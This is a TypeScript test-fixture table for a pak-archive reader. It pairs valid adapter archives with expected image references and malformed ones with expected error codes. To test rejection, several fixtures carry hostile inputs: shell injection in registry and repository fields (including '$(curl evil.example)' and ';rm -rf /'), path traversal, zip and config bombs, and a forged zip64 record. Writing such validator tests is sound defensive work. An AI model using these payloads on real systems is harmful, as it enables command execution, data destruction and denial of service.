/**
 * Every fixture pak, what it contains, and what reading it must give. The fixture script writes
 * these under fixtures/; the tests read the committed files and check them against this table.
 */
import { pakBuffer, zerosZip, type PakSpec } from "./pak-writer.js";

export const sampleDigest = `sha256:${"4f2a9c0e7b1d3856".repeat(4)}`;
export const otherDigest = `sha256:${"0b7e3c1a9d2f4865".repeat(4)}`;

const sample = {
  kind: "SampleAdapter",
  registry: "harbor.example.com:8443",
  repository: "/mp/sample-adapter",
};

export interface GoodFixture {
  file: string;
  spec: PakSpec;
  defaultRegistry?: string;
  /** The references `readPak` must return, in order. */
  references: string[];
}

export interface BadFixture {
  file: string;
  spec: PakSpec | { raw: () => Promise<Buffer> };
  code: string;
  /** A fragment the one-line message must contain. */
  message: string;
}

export const goodFixtures: GoodFixture[] = [
  {
    file: "sample.pak",
    spec: { name: "SampleAdapter", version: "1.0.0", adapters: [{ ...sample, digest: sampleDigest }] },
    references: [`harbor.example.com:8443/mp/sample-adapter@${sampleDigest}`],
  },
  {
    file: "no-registry.pak",
    spec: { adapters: [{ kind: "SampleAdapter", repository: "/mp/sample-adapter", digest: sampleDigest }] },
    defaultRegistry: "registry.corp.example:5000",
    references: [`registry.corp.example:5000/mp/sample-adapter@${sampleDigest}`],
  },
  {
    file: "docker-hub.pak",
    spec: {
      adapters: [
        {
          kind: "HubAdapter",
          registry: "registry.hub.docker.com",
          repository: "/acme/hub-adapter",
          digest: sampleDigest,
        },
      ],
    },
    references: [`registry.hub.docker.com/acme/hub-adapter@${sampleDigest}`],
  },
  {
    file: "two-adapters.pak",
    spec: {
      adapters: [
        { ...sample, digest: sampleDigest },
        {
          kind: "OtherAdapter",
          zipName: "other-adapter.zip",
          registry: "127.0.0.1:5443",
          repository: "/mp/other_adapter",
          digest: otherDigest,
        },
      ],
    },
    references: [
      `harbor.example.com:8443/mp/sample-adapter@${sampleDigest}`,
      `127.0.0.1:5443/mp/other_adapter@${otherDigest}`,
    ],
  },
  {
    file: "crlf-bom-comments.pak",
    spec: {
      adapters: [
        {
          kind: "SampleAdapter",
          confText: `\uFEFF# written on Windows\r\nKINDKEY = SampleAdapter\r\n\r\nAPI_VERSION=1.0.0\r\nREGISTRY = harbor.example.com:8443\r\nREPOSITORY= /mp/sample-adapter\r\nDIGEST =${sampleDigest}\r\n`,
        },
      ],
    },
    references: [`harbor.example.com:8443/mp/sample-adapter@${sampleDigest}`],
  },
  {
    file: "no-manifest-list.pak",
    spec: { listedAdapters: null, adapters: [{ ...sample, digest: sampleDigest }] },
    references: [`harbor.example.com:8443/mp/sample-adapter@${sampleDigest}`],
  },
];

function withConf(conf: Partial<typeof sample> & { digest?: string }): PakSpec {
  return { adapters: [{ ...sample, digest: sampleDigest, ...conf }] };
}

export const badFixtures: BadFixture[] = [
  {
    file: "empty.pak",
    spec: { raw: () => Promise.resolve(Buffer.alloc(0)) },
    code: "PAK_NOT_ZIP",
    message: "is not a readable zip",
  },
  {
    file: "not-a-zip.pak",
    spec: { raw: () => Promise.resolve(Buffer.from("<html>404 Not Found</html>\n")) },
    code: "PAK_NOT_ZIP",
    message: "is not a readable zip",
  },
  {
    file: "truncated.pak",
    spec: { raw: async () => (await pakBuffer(withConf({}))).subarray(0, 1500) },
    code: "PAK_NOT_ZIP",
    message: "is not a readable zip",
  },
  {
    file: "conf-bomb.pak",
    spec: { adapters: [{ kind: "SampleAdapter", confText: `NOTE=${"x".repeat(2 * 1024 * 1024)}\n` }] },
    code: "CONF_INVALID",
    message: "cannot be read (larger than",
  },
  {
    file: "entries-absurd.pak",
    spec: { raw: () => Promise.resolve(zip64EndClaiming(1_000_000_000)) },
    code: "PAK_TOO_MANY_ENTRIES",
    message: "declares 1000000000 zip entries",
  },
  {
    file: "manifest-not-json.pak",
    spec: { manifestText: "name=Sample\n", adapters: [{ ...sample, digest: sampleDigest }] },
    code: "PAK_MANIFEST_INVALID",
    message: "manifest.txt is not valid JSON",
  },
  {
    file: "manifest-not-object.pak",
    spec: { manifestText: "[1,2]", adapters: [{ ...sample, digest: sampleDigest }] },
    code: "PAK_MANIFEST_INVALID",
    message: "not a JSON object",
  },
  {
    file: "adapter-missing.pak",
    spec: { listedAdapters: ["adapter.zip"], adapters: [] },
    code: "PAK_NO_ADAPTER",
    message: 'lists "adapter.zip" but the pak has no such entry',
  },
  {
    file: "adapter-traversal.pak",
    spec: { listedAdapters: ["../adapter.zip"], adapters: [{ ...sample, digest: sampleDigest }] },
    code: "PAK_MANIFEST_INVALID",
    message: "is not a path inside the pak",
  },
  {
    file: "no-adapters.pak",
    spec: { listedAdapters: null, adapters: [{ ...sample, digest: sampleDigest, zipName: "renamed.zip" }] },
    code: "PAK_NO_ADAPTER",
    message: "lists no adapters and there is no adapter.zip",
  },
  {
    file: "adapter-not-zip.pak",
    spec: { adapters: [{ ...sample, zipBytes: Buffer.from("this is not a zip\n") }] },
    code: "ADAPTER_NOT_ZIP",
    message: "adapter.zip is not a readable zip",
  },
  {
    file: "no-root-conf.pak",
    spec: { adapters: [{ ...sample, digest: sampleDigest, omitConf: true }] },
    code: "CONF_NOT_FOUND",
    message: "has no SampleAdapter.conf at its root",
  },
  {
    file: "no-digest.pak",
    spec: withConf({ digest: undefined }),
    code: "CONF_NO_DIGEST",
    message: "SampleAdapter.conf has no DIGEST",
  },
  {
    file: "no-repository.pak",
    spec: withConf({ repository: undefined }),
    code: "CONF_NO_REPOSITORY",
    message: "has no REPOSITORY",
  },
  {
    file: "no-registry-no-default.pak",
    spec: withConf({ registry: undefined }),
    code: "NO_DEFAULT_REGISTRY",
    message: "names no REGISTRY",
  },
  {
    file: "digest-short.pak",
    spec: withConf({ digest: "sha256:abc123" }),
    code: "REFERENCE_INVALID",
    message: "has 6 hex digits; sha256 needs 64",
  },
  {
    file: "digest-uppercase.pak",
    spec: withConf({ digest: sampleDigest.toUpperCase().replace("SHA256", "sha256") }),
    code: "REFERENCE_INVALID",
    message: "uppercase hex",
  },
  {
    file: "digest-md5.pak",
    spec: withConf({ digest: `md5:${"a".repeat(32)}` }),
    code: "REFERENCE_INVALID",
    message: "unknown algorithm",
  },
  {
    file: "digest-no-algorithm.pak",
    spec: withConf({ digest: "a".repeat(64) }),
    code: "REFERENCE_INVALID",
    message: "not of the form algorithm:hex",
  },
  {
    file: "registry-space.pak",
    spec: withConf({ registry: "harbor example.com" }),
    code: "REFERENCE_INVALID",
    message: 'REGISTRY "harbor example.com" is not a valid registry',
  },
  {
    file: "registry-scheme.pak",
    spec: withConf({ registry: "https://harbor.example.com" }),
    code: "REFERENCE_INVALID",
    message: "has a URL scheme",
  },
  {
    file: "registry-semicolon.pak",
    spec: withConf({ registry: "harbor.example.com;reboot" }),
    code: "REFERENCE_INVALID",
    message: "is not a valid registry",
  },
  {
    file: "registry-subshell.pak",
    spec: withConf({ registry: "$(curl evil.example)" }),
    code: "REFERENCE_INVALID",
    message: "is not a valid registry",
  },
  {
    file: "registry-bad-port.pak",
    spec: withConf({ registry: "harbor.example.com:99999" }),
    code: "REFERENCE_INVALID",
    message: "port outside 1-65535",
  },
  {
    file: "repository-uppercase.pak",
    spec: withConf({ repository: "/MP/Sample" }),
    code: "REFERENCE_INVALID",
    message: "uppercase",
  },
  {
    file: "repository-space.pak",
    spec: withConf({ repository: "/mp/sample adapter" }),
    code: "REFERENCE_INVALID",
    message: "REPOSITORY",
  },
  {
    file: "repository-semicolon.pak",
    spec: withConf({ repository: "/mp/sample;rm -rf /" }),
    code: "REFERENCE_INVALID",
    message: "REPOSITORY",
  },
  {
    file: "repository-subshell.pak",
    spec: withConf({ repository: "/mp/$(id)" }),
    code: "REFERENCE_INVALID",
    message: "REPOSITORY",
  },
  {
    file: "repository-backtick.pak",
    spec: withConf({ repository: "/mp/`id`" }),
    code: "REFERENCE_INVALID",
    message: "REPOSITORY",
  },
  {
    file: "repository-dotdot.pak",
    spec: withConf({ repository: "/mp/../etc" }),
    code: "REFERENCE_INVALID",
    message: "REPOSITORY",
  },
  {
    file: "repository-no-slash.pak",
    spec: withConf({ repository: "mp/sample" }),
    code: "REFERENCE_INVALID",
    message: "must start with '/'",
  },
  {
    file: "repository-scheme.pak",
    spec: withConf({ repository: "/https://evil" }),
    code: "REFERENCE_INVALID",
    message: "REPOSITORY",
  },
  {
    file: "repository-newline.pak",
    spec: {
      adapters: [
        {
          kind: "SampleAdapter",
          confText: `REPOSITORY=/mp/sample\rDIGEST=${sampleDigest}\nREGISTRY=harbor.example.com\n`,
        },
      ],
    },
    code: "CONF_INVALID",
    message: "has control characters",
  },
  {
    file: "conf-duplicate-key.pak",
    spec: {
      adapters: [
        {
          kind: "SampleAdapter",
          confText: `REGISTRY=harbor.example.com\nREPOSITORY=/mp/a\nDIGEST=${sampleDigest}\nDIGEST=${otherDigest}\n`,
        },
      ],
    },
    code: "CONF_INVALID",
    message: "line 4: DIGEST is set again (first set on line 3)",
  },
  {
    file: "conf-not-key-value.pak",
    spec: { adapters: [{ kind: "SampleAdapter", confText: `REGISTRY=harbor.example.com\nrm -rf /\n` }] },
    code: "CONF_INVALID",
    message: 'line 2: "rm -rf /" is not KEY=VALUE',
  },
  {
    file: "kindkey-mismatch.pak",
    spec: {
      adapters: [
        {
          kind: "SampleAdapter",
          confText: `KINDKEY=OtherKind\nREGISTRY=harbor.example.com\nREPOSITORY=/mp/a\nDIGEST=${sampleDigest}\n`,
        },
      ],
    },
    code: "CONF_INVALID",
    message: "does not match adapter kind",
  },
  {
    file: "adapter-bomb.pak",
    spec: {
      adapters: [{ ...sample, zipBytes: () => zerosZip("SampleAdapter.conf", 80 * 1024 * 1024, false) }],
    },
    code: "ADAPTER_TOO_LARGE",
    message: "adapter.zip inflates to more than",
  },
];

/**
 * A zip that is nothing but end records (zip64 form) claiming `entries` entries: a reader that
 * trusts the count and walks the central directory would spin or allocate without bound.
 */
function zip64EndClaiming(entries: number): Buffer {
  const record = Buffer.alloc(56);
  record.writeUInt32LE(0x06064b50, 0);
  record.writeBigUInt64LE(44n, 4);
  record.writeUInt16LE(45, 12);
  record.writeUInt16LE(45, 14);
  record.writeBigUInt64LE(BigInt(entries), 24);
  record.writeBigUInt64LE(BigInt(entries), 32);
  record.writeBigUInt64LE(0n, 40); // central directory size
  record.writeBigUInt64LE(0n, 48); // central directory offset
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(0n, 8); // where the zip64 record starts
  locator.writeUInt32LE(1, 16);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(0xffff, 8);
  end.writeUInt16LE(0xffff, 10);
  end.writeUInt32LE(0xffffffff, 12);
  end.writeUInt32LE(0xffffffff, 16);
  return Buffer.concat([record, locator, end]);
}
